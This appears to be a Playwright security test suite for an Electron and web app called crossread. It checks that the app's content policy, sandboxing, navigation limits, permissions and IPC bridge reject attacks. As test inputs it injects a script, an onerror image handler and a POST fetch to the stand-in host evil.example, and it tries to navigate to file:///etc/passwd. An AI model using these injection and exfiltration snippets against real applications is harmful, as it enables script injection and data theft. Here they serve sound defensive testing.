import { join } from 'node:path'
import type { ElectronApplication, Page } from '@playwright/test'
import { copyFolder, expect, projectRoot, test, type RunningWorkbench } from './support/workbench'

async function open(
  launch: (options: { folder: string; configDir: string }) => Promise<RunningWorkbench>,
  scratch: string,
): Promise<RunningWorkbench> {
  const folder = await copyFolder('corpus', join(scratch, 'corpus'))
  const running = await launch({ folder, configDir: join(scratch, 'config') })
  await expect(running.page.getByText('Sources').first()).toBeVisible()
  return running
}

/** What the page's policy refused, as the page itself is told. */
async function refusals(page: Page, attempt: () => unknown): Promise<string[]> {
  await page.evaluate(() => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
    Object.assign(window, { refused })
  })
  await page.evaluate(attempt)
  await expect.poll(() => page.evaluate(() => (Reflect.get(window, 'refused') as string[]).length)).toBeGreaterThan(0)
  return page.evaluate(() => Reflect.get(window, 'refused') as string[])
}

test('walks through every view without asking for anything that the policy forbids', async ({ launch, scratch }) => {
  const { page } = await open(launch, scratch)
  const complaints: string[] = []
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text())
  })
  page.on('pageerror', (error) => complaints.push(error.message))
  const outside: string[] = []
  page.on('request', (request) => {
    if (!/^(crossread:\/\/app|http:\/\/127\.0\.0\.1:\d+|blob:|data:)/.test(request.url())) outside.push(request.url())
  })
  for (const key of [
    'F8',
    'Control+k',
    'Escape',
    'Control+2',
    'Control+3',
    'Control+4',
    'Control+f',
    'Escape',
    'Control+1',
  ]) {
    await page.keyboard.press(key)
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 100))))
  }
  expect([complaints, outside]).toEqual([[], []])
})

test('runs no script and no style that slipped into the page, and sends nothing out', async ({ launch, scratch }) => {
  const { page } = await open(launch, scratch)
  const inline = (): unknown => {
    const script = document.createElement('script')
    script.textContent = 'window.ran = true'
    const image = document.createElement('img')
    image.setAttribute('onerror', 'window.ran = true')
    image.src = 'https://evil.example/pixel.png'
    const style = document.createElement('style')
    style.textContent = 'body { visibility: hidden }'
    document.body.append(script, image, style)
    return null
  }
  expect(new Set(await refusals(page, inline))).toEqual(
    new Set(['script-src-elem', 'img-src', 'style-src-elem', 'script-src-attr']),
  )
  expect(
    await page.evaluate(() => [Reflect.get(window, 'ran') as unknown, getComputedStyle(document.body).visibility]),
  ).toEqual([undefined, 'visible'])
  const send = (): unknown =>
    fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(
      () => null,
      () => null,
    )
  expect(await refusals(page, send)).toEqual(['connect-src'])
})

test('cannot be led away from its page, nor put into another', async ({ launch, scratch }) => {
  const { page, host } = await open(launch, scratch)
  if (host === 'electron') await staysOnItsPage(page)
  else await staysOutOfFrames(page)
})

async function staysOnItsPage(page: Page): Promise<void> {
  const address = page.url()
  for (const target of ['https://evil.example/', 'file:///etc/passwd', 'crossread://other/', 'data:text/html,x']) {
    await page.evaluate((url) => {
      const link = document.createElement('a')
      link.href = url
      document.body.append(link)
      link.click()
      link.target = '_blank'
      link.click()
      window.open(url)
    }, target)
  }
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)))
  expect([page.url(), page.context().pages().length]).toEqual([address, 1])
}

/** In a browser the person may leave any page; what must not happen is that another one shows it as its own. */
async function staysOutOfFrames(page: Page): Promise<void> {
  const address = page.url()
  await page.goto('about:blank')
  await page.setContent(`<iframe src="${address}"></iframe>`)
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)))
  const shown = await Promise.all(page.frames().map((frame) => frame.evaluate(() => document.body.innerText)))
  expect(shown).toHaveLength(2)
  expect(shown.join('')).not.toContain('Sources')
}

test('gives its page two functions of the main program and nothing of Node', async ({ launch, scratch }) => {
  const { page, electronApp } = await open(launch, scratch)
  const seen = await page.evaluate(() => ({
    node: ['require', 'process', 'global', 'Buffer', 'ipcRenderer'].filter((name) => Reflect.has(window, name)),
    bridge: Object.keys(Object(Reflect.get(window, 'crossreadTransport')) as object),
  }))
  expect(seen).toEqual({ node: [], bridge: electronApp === null ? [] : ['invoke', 'subscribe'] })
  if (electronApp === null) return
  const settings = await electronApp.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
      getLastWebPreferences(): Record<string, unknown>
    }
    const { sandbox, contextIsolation, nodeIntegration, webSecurity, webviewTag } = contents.getLastWebPreferences()
    return { sandbox, contextIsolation, nodeIntegration, webSecurity, webviewTag }
  })
  expect(settings).toEqual({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webSecurity: true,
    webviewTag: false,
  })
})

test('has no eye, no ear and no place', async ({ launch, scratch }) => {
  const { page } = await open(launch, scratch)
  const states = await page.evaluate(() =>
    Promise.all(
      ['geolocation', 'camera', 'microphone'].map(async (name) => {
        const { state } = await navigator.permissions.query({ name: name as PermissionName })
        return `${name}: ${state}`
      }),
    ),
  )
  expect(states).toEqual(['geolocation: denied', 'camera: denied', 'microphone: denied'])
})

test('answers its own window and no other', async ({ launch, scratch }) => {
  const { page, electronApp } = await open(launch, scratch)
  if (electronApp === null) expect(await askFromOtherBrowser(page)).toEqual([403, 403])
  else expect(await askFromOtherWindows(electronApp)).toEqual(['NOT_ALLOWED', 'NOT_ALLOWED'])
})

/** As another person's browser on this machine would: it has no cookie. */
async function askFromOtherBrowser(page: Page): Promise<(number | undefined)[]> {
  const context = await page.context().browser()?.newContext()
  const stranger = await context?.newPage()
  const loaded = await stranger?.goto(page.url())
  const called = await stranger?.request.post(`${new URL(page.url()).origin}/api/corpus.get`, { data: {} })
  return [loaded?.status(), called?.status()]
}

/** Windows with the very same bridge, one of them showing our own page. */
function askFromOtherWindows(app: ElectronApplication): Promise<unknown[]> {
  return app.evaluate(
    async ({ BrowserWindow }, preload) => {
      const answers: unknown[] = []
      for (const url of ['crossread://app/', 'data:text/html,stranger']) {
        const window = new BrowserWindow({ show: false, webPreferences: { preload, sandbox: true } })
        await window.loadURL(url).catch(() => null)
        const ask =
          "window.crossreadTransport?.invoke('corpus.get', {}).then((reply) => reply.error.code) ?? 'no bridge'"
        answers.push(await window.webContents.executeJavaScript(ask))
        window.destroy()
      }
      return answers
    },
    join(projectRoot, 'out/preload/preload.cjs'),
  )
}
